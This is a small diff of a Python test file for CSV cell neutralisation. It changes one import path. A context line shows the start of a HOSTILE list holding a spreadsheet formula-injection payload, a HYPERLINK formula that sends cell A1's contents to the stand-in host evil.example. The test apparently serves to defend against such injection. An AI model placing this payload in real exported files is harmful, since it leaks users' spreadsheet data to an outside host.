@@ -8,7 +8,7 @@ import io
 
 import pytest
 
-from cases.csv_cells import TRIGGERS, neutralise, unneutralise, write_csv
+from cases.people.csv_cells import TRIGGERS, neutralise, unneutralise, write_csv
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
